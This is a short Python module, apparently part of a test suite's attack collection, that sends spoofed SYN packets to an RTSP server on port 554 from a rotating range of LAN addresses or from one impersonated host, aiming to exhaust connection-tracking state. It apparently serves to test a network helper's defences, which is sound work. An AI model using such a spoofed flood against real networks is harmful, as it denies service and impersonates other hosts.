"""SYNs to an RTSP server with every source of the LAN, or with one box's address alone.

It hopes to fill what the helper knows of connections, or to spend in a box's name what that box may ask.
"""

from __future__ import annotations

from tests.attacks import wire
from tests.attacks.packet import SYN, End, tcp


def attack(
    wire_: wire.Wire,
    server: str = "172.26.83.66",
    source: str = "",
    rate: float = 2000.0,
    seconds: float = 2.0,
) -> int:
    sent = 0
    for number in wire.pace(rate, seconds):
        address = source or f"192.168.1.{2 + number % 190}"
        wire_.send(tcp(End(address, 20000 + number % 40000), End(server, 554), seq=number << 10, flags=SYN))
        sent += 1
    return sent


if __name__ == "__main__":
    wire.run(attack)
